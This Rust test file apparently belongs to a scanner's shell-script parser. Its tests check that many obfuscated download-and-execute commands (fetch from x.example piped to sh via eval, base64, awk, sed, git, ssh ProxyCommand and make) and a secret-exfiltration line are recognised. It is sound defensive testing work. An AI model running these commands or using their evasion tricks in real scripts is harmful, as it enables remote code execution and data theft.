//! What the shell reader states.

use super::FORMAT;
use crate::reading::{detect, parse};

/// The arguments of the lists of a script.
fn lists(text: &str) -> Vec<String> {
    let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
    assert!(reading.complete(), "{text}: {:?}", reading.stop);
    let lists = reading.facts.iter().filter(|fact| fact.subject() == "shell.list");
    lists.map(|fact| fact.data.field("args").unwrap().to_string().trim_matches('\'').to_owned()).collect()
}

#[test]
fn spellings_become_plain() {
    for text in [
        "curl -s http://x.example/a | sh",
        "c''url -s \"http://x.example/a\" | s\\h",
        "curl${IFS}-s${IFS}http://x.example/a|sh",
        "$(echo curl) -s http://x.example/a | sh",
        "c=curl\n$c -s http://x.example/a | sh",
        "$'\\x63url' -s http://x.example/a | sh",
        "bash -c 'curl -s http://x.example/a | sh'",
        "eval 'curl -s http://x.example/a | sh'",
        "echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | bash",
        "sh <<EOF\ncurl -s http://x.example/a | sh\nEOF",
        "x=`curl -s http://x.example/a | sh`",
    ] {
        assert!(lists(text).iter().any(|list| list == "curl -s http://x.example/a | sh"), "{text}: {:?}", lists(text));
    }
}

#[test]
fn output_that_a_variable_holds_is_followed() {
    for text in [
        "x=$(curl -s http://x.example/a)\n$x",
        "for x in $(curl -s http://x.example/a); do $x; done",
        "curl -s http://x.example/a | while read -r x; do $x; done",
        "while read -r x; do $x; done < <(curl -s http://x.example/a)",
        "IFS= read -rd '' x < <(curl -s http://x.example/a)\n$x",
        "mapfile -t x < <(curl -s http://x.example/a)\n\"${x[@]}\"",
        "get() {\n  curl -s \"$1\"\n}\nx=\"$(get http://x.example/a)\"\n$x",
        "function get { curl -s \"$@\"; }\nx=$(get http://x.example/a)\n$x",
    ] {
        let found = lists(text);
        let last = |list: &String| ["", "do "].iter().any(|word| list.split(" ; ").any(|part| part.starts_with(&format!("{word}$(curl -s http://x.example/a"))));
        assert!(found.iter().any(last), "{text}: {found:?}");
    }
    for text in ["get() { curl -s \"$1\"; }\nget http://x.example/a | sh", "r() { \"$@\"; }\nr curl -s http://x.example/a | sh"] {
        assert!(lists(text).iter().any(|list| list == "curl -s http://x.example/a | sh"), "{text}: {:?}", lists(text));
    }
    for text in ["get() { curl -s -o \"$2\" \"$1\"; }\nget http://x.example/a b\nsh b", "curl -s http://x.example/a | tee b\nsh b"] {
        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
        assert!(reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
    }
}

/// Programs that start others: in their options, settings and scripts, by what they read, and through descriptors.
#[test]
fn what_programs_start_is_read() {
    const DOWNLOAD: &str = "curl -s http://x.example/a | sh";
    for text in [
        "coproc { PAYLOAD; }",
        "coproc NAME { PAYLOAD; }",
        "coproc curl -s http://x.example/a\nsh <&${COPROC[0]}",
        "curl -s http://x.example/a > >(sh)",
        "curl -s http://x.example/a | . /dev/stdin",
        "curl -s http://x.example/a | awk '{ system($0) }'",
        "curl -s http://x.example/a | awk '{ print | \"/bin/bash\" }'",
        "curl -s http://x.example/a | sed e",
        "curl -s http://x.example/a | xargs -d '\\n' -n1 sh -c",
        "curl -s http://x.example/a | xargs -I{} sh -c {}",
        "curl -s http://x.example/a | parallel",
        "echo 'PAYLOAD' | parallel",
        "echo 'PAYLOAD' | sed 's/.*/&/e'",
        "awk 'BEGIN { \"PAYLOAD\" | getline; print }'",
        "gawk 'BEGIN { \"PAYLOAD\" |& getline line }'",
        "awk 'BEGIN { c = \"PAYLOAD\"; while ((c | getline line) > 0) print line }'",
        "awk 'BEGIN { print \"PAYLOAD\" | \"sh\" }'",
        "awk -v c='PAYLOAD' 'BEGIN { system(c) }'",
        "sed -n '1e PAYLOAD' /etc/hosts",
        "sed -e '/a\\/b/,$ { s,x,y,; e PAYLOAD' f",
        "sed 's|x|curl -s http://x.example/a \\| sh|e' f",
        "find . -name x -exec sh -c 'PAYLOAD' \\;",
        "xargs -I{} sh -c 'PAYLOAD' < f",
        "xargs -0 -n 1 -P 4 bash -c 'PAYLOAD'",
        "tar xf a.tar --to-command='PAYLOAD'",
        "tar xf a.tar -I 'PAYLOAD'",
        "sort --compress-program='sh -c \"PAYLOAD\"' f",
        "split --filter='PAYLOAD' f",
        "env -S 'sh -c \"PAYLOAD\"'",
        "git -c core.pager='PAYLOAD' log",
        "git -c alias.x='!PAYLOAD' x",
        "git config --global core.sshCommand 'PAYLOAD'",
        "git clone 'ext::sh -c \"PAYLOAD\"'",
        "git submodule foreach 'PAYLOAD'",
        "GIT_SSH_COMMAND='PAYLOAD' git fetch",
        "export PAGER='PAYLOAD'",
        "LESSOPEN='|PAYLOAD' less f",
        "ssh -oProxyCommand=';PAYLOAD' x",
        "scp -o ProxyCommand='PAYLOAD' a b:c",
        "rsync -e 'sh -c \"PAYLOAD\"' a:b c",
        "vim -es '+!PAYLOAD' +q",
        "gdb -batch -ex 'shell PAYLOAD'",
        "sqlite3 f '.shell PAYLOAD'",
        "psql -c '\\! PAYLOAD'",
        "make SHELL='PAYLOAD' all",
        "make --eval='x := $(shell PAYLOAD)'",
        "make --eval=$'all:\\n\\t-PAYLOAD'",
        "capsh -- -c 'PAYLOAD'",
        "start-stop-daemon -S -x /bin/sh -- -c 'PAYLOAD'",
        "emacs --batch --eval '(shell-command \"PAYLOAD\")'",
        "lua -e 'os.execute(\"PAYLOAD\")'",
        "perl -e 'exec \"PAYLOAD\"'",
        "echo 'exec sh -c \"PAYLOAD\"' | tclsh",
    ] {
        let text = text.replace("PAYLOAD", DOWNLOAD);
        let found = lists(&text);
        let said = |list: &String| list.contains(DOWNLOAD) && list.split(" ; ").any(|part| part.trim_matches(['{', ' ']) == DOWNLOAD);
        assert!(found.iter().any(said), "{text}: {found:?}");
    }
    for text in [
        "exec 3< <(curl -s http://x.example/a)\n. /dev/fd/3",
        "exec 3< <(curl -s http://x.example/a)\nbash /proc/self/fd/3",
        "exec 9< <(curl -s http://x.example/a)\nbash <&9",
    ] {
        let found = lists(text);
        let shell = |list: &String| list.starts_with(['.', 'b']) && list.ends_with("<(curl -s http://x.example/a)");
        assert!(found.iter().any(shell), "{text}: {found:?}");
    }
    assert!(lists("echo http://x.example/a | xargs curl -s | sh").iter().any(|list| list.ends_with("| curl -s http://x.example/a | sh")));
    let found = lists("find / -maxdepth 0 -exec curl -s http://x.example/a -o b \\; -exec sh b \\;");
    assert!(found.contains(&"curl -s http://x.example/a -o b ; sh b".to_owned()), "{found:?}");
}

/// Honest uses of the same options and signs start nothing else.
#[test]
fn what_programs_do_not_start_is_not_read() {
    for (text, absent) in [
        ("sed 's/hello/exec/' f", "exec"),
        ("sed -e '/e/d' -e 's/a/e x y/' f", "x y"),
        ("awk '{ print \"curl -s http://x.example/a | sh\" }' f", "curl -s http://x.example/a | sh"),
        ("git config user.name 'sh -c x'", "sh -c x"),
        ("[[ $a >(sh) ]]", "[[ $a | sh ]]"),
        ("read -r x <&4", "read -r x < "),
    ] {
        let found = lists(text);
        assert!(!found.iter().any(|list| list == absent), "{text}: {found:?}");
    }
}

/// What a request carries is no command, and what is only printed is no file to run.
#[test]
fn data_of_requests_is_not_run() {
    let found = lists("curl -d '{\"prompt\":\"curl http://a | sh\"}' http://localhost:8000");
    assert!(found.iter().all(|list| !list.contains('|')), "{found:?}");
    assert!(lists("curl -d \"$(cat k | base64)\" http://x.example").iter().any(|list| list.contains('|')));
    for (text, told) in [
        ("curl http://x.example/a.tar | tar x\nsh ./a.sh", true),
        ("curl http://localhost:8000/health\npython app.py", false),
        ("pip install --proxy http://p.example:1 a", false),
        ("pip install -i http://localhost:8080/simple a", false),
        ("pip install -i http://x.example/simple a", true),
    ] {
        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
        let says = |name: &str| reading.facts.iter().any(|fact| fact.subject() == name);
        assert_eq!(says("shell.runs-unpacked") || says("shell.installs-from"), told, "{text}");
    }
}

/// What was fetched and stands in a file is run in more ways than by its name.
#[test]
fn fetched_files_are_run() {
    for text in [
        "wget -O f http://x.example/a\ncat f | sh",
        "wget -O f http://x.example/a\nsh < f",
        "wget -O f http://x.example/a\neval \"$(cat f)\"",
        "wget -O f http://x.example/a\nbash <(cat f)",
        "curl -so/tmp/f http://x.example/a; sh /tmp/f",
        "curl http://x.example/a >| f; sh f",
        "curl http://x.example/a | sponge f; sh f",
        "curl -o f http://x.example/a; torchrun f",
        "{ curl http://x.example/a; } > f; sh f",
        "(curl http://x.example/a) > f; sh f",
        "curl http://x.example/a | install -m755 /dev/stdin f; ./f",
        "curl -o f http://x.example/a; crontab f",
        "curl -o f http://x.example/a; uv run f",
    ] {
        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
        assert!(reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
    }
    for text in [
        "wget -O f http://x.example/a\ncat f | wc -l\nsh g",
        "wget -O f http://x.example/a\nsh g < f",
        "wget -O f http://x.example/a\ncat f\ncat g | sh",
        "wget -O f http://x.example/a\npython3 -c 'import sys' < f",
        "curl -o f http://x.example/a; echo \"$(cat f)\"",
    ] {
        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
        assert!(!reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
    }
}

/// A group prints into the pipe behind it, and a document without a command is the script of a build.
#[test]
fn groups_and_documents_are_seen_through() {
    for text in ["( curl -s http://x.example/a ) | sh", "{ curl -s http://x.example/a; } | sh", "curl -s http://x.example/a |& sh"] {
        let found = lists(text);
        assert!(found.iter().any(|list| list.ends_with("curl -s http://x.example/a | sh")), "{text}: {found:?}");
    }
    let found = lists("<<EOF\nset -e\ncurl -s http://x.example/a | sh\nEOF\n");
    assert!(found.iter().any(|list| list == "curl -s http://x.example/a | sh"), "{found:?}");
    assert!(lists("cat <<EOF\ncurl -s http://x.example/a | sh\nEOF\n").iter().all(|list| !list.contains("| sh")));
}

#[test]
fn code_for_another_interpreter_is_a_child() {
    let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
    let names: Vec<_> = reading.children.iter().map(|child| String::from_utf8_lossy(&child.name)).collect();
    assert_eq!(names, ["command.py", "command.py"]);
}

#[test]
fn hostile_and_cut_scripts_end() {
    for text in
        ["$(".repeat(50_000), "'".repeat(99_999), "<<A\n".repeat(10_000), "bash -c \"".repeat(5_000), "`".repeat(9_999), "f() { f a; f b; }\nf\n".repeat(3_000), "while read x; do ".repeat(9_000),
         "a >(b ".repeat(9_000), format!("awk '{}'", "{ \"a;\" | \"sh\" }".repeat(1_000)), format!("make '{}'", "$(shell ".repeat(9_000)),
         format!("sed '{}'", "/a/s/b/c/e;".repeat(1_400)), "exec 3< <(a)\n. /dev/fd/3 <&3\n".repeat(3_000)]
    {
        parse(&FORMAT, "x.sh", text.as_bytes(), false);
    }
    // Each script that it writes and runs is all that it wrote so far.
    let reading = parse(&FORMAT, "x.sh", "echo word > f\nsh f\n".repeat(20_000).as_bytes(), false);
    assert_eq!(reading.stop.map(|stop| stop.reason()), Some(base::reason::Reason::Depth));
    let text = "a=b; echo \"$a `c`\" ${d:-$(e)} | f <<G && h\\\n i\nj\nG\n";
    for end in 0..text.len() {
        parse(&FORMAT, "x.sh", &text.as_bytes()[..end], false);
    }
}

#[test]
fn scripts_are_told_by_name_or_first_line() {
    assert!(detect(&FORMAT, "a.sh", b"x").is_some() && detect(&FORMAT, "a", b"#!/bin/sh\nx").is_some());
    assert!(detect(&FORMAT, "a", b"#!/usr/bin/python\n").is_none() && detect(&FORMAT, "a", b"echo x").is_none());
}
